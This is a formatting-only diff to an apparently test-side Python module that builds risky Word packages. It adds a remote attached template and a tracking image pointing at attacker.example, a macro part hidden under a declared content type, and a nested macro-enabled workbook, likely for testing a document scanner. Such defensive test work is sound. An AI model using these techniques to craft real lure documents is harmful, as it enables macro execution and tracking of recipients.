@@ -69,7 +69,13 @@ REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
 
 
 def _rels(*relationships: bytes) -> bytes:
-    return b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="' + RELS_NS + b'">' + b"".join(relationships) + b"</Relationships>"
+    return (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="'
+        + RELS_NS
+        + b'">'
+        + b"".join(relationships)
+        + b"</Relationships>"
+    )
 
 
 def with_attached_template(data: bytes, target: str = "http://attacker.example/templates/normal.dotm") -> bytes:
@@ -80,7 +86,13 @@ def with_attached_template(data: bytes, target: str = "http://attacker.example/t
             return content.replace(b'mc:Ignorable="w14">', b'mc:Ignorable="w14"><w:attachedTemplate r:id="rIdTemplate1"/>', 1)
         return content
 
-    relationship = b'<Relationship Id="rIdTemplate1" Type="' + (REL + "attachedTemplate").encode() + b'" Target="' + target.encode() + b'" TargetMode="External"/>'
+    relationship = (
+        b'<Relationship Id="rIdTemplate1" Type="'
+        + (REL + "attachedTemplate").encode()
+        + b'" Target="'
+        + target.encode()
+        + b'" TargetMode="External"/>'
+    )
     return rewrite(data, change, add={"word/_rels/settings.xml.rels": _rels(relationship)})
 
 
@@ -89,8 +101,12 @@ def with_remote_image(data: bytes) -> bytes:
 
     def change(name, content):
         if name == "word/_rels/document.xml.rels":
-            return content.replace(b"</Relationships>", b'<Relationship Id="rIdRemote9" Type="' + (REL + "image").encode()
-                                   + b'" Target="http://attacker.example/pixel.png" TargetMode="External"/></Relationships>')
+            return content.replace(
+                b"</Relationships>",
+                b'<Relationship Id="rIdRemote9" Type="'
+                + (REL + "image").encode()
+                + b'" Target="http://attacker.example/pixel.png" TargetMode="External"/></Relationships>',
+            )
         return content
 
     return rewrite(data, change)
@@ -99,8 +115,12 @@ def with_remote_image(data: bytes) -> bytes:
 def with_hyperlink(data: bytes) -> bytes:
     def change(name, content):
         if name == "word/_rels/document.xml.rels":
-            return content.replace(b"</Relationships>", b'<Relationship Id="rIdLink9" Type="' + (REL + "hyperlink").encode()
-                                   + b'" Target="https://www.cafcass.gov.uk/" TargetMode="External"/></Relationships>')
+            return content.replace(
+                b"</Relationships>",
+                b'<Relationship Id="rIdLink9" Type="'
+                + (REL + "hyperlink").encode()
+                + b'" Target="https://www.cafcass.gov.uk/" TargetMode="External"/></Relationships>',
+            )
         return content
 
     return rewrite(data, change)
@@ -111,9 +131,14 @@ def with_renamed_macros(data: bytes, *, declared: str) -> bytes:
 
     def change(name, content):
         if name == "[Content_Types].xml":
-            return content.replace(b"</Types>", b'<Override PartName="/word/vbaData.bin" ContentType="' + declared.encode() + b'"/></Types>')
+            return content.replace(
+                b"</Types>", b'<Override PartName="/word/vbaData.bin" ContentType="' + declared.encode() + b'"/></Types>'
+            )
         if name == "word/_rels/document.xml.rels":
-            return content.replace(b"</Relationships>", b'<Relationship Id="rIdVba1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaData.bin"/></Relationships>')
+            return content.replace(
+                b"</Relationships>",
+                b'<Relationship Id="rIdVba1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaData.bin"/></Relationships>',
+            )
         return content
 
     return rewrite(data, change, add={"word/vbaData.bin": OLE})
@@ -123,6 +148,9 @@ def with_macro_workbook_inside(data: bytes) -> bytes:
     """An embedded workbook that is itself macro-enabled: a package inside the package."""
     workbook = io.BytesIO()
     with zipfile.ZipFile(workbook, "w") as inner:
-        inner.writestr("[Content_Types].xml", b'<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>')
+        inner.writestr(
+            "[Content_Types].xml",
+            b'<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
+        )
         inner.writestr("xl/workbook.xml", b"<workbook/>")
     return rewrite(data, add={"word/embeddings/Microsoft_Excel_Worksheet1.xlsx": workbook.getvalue()})
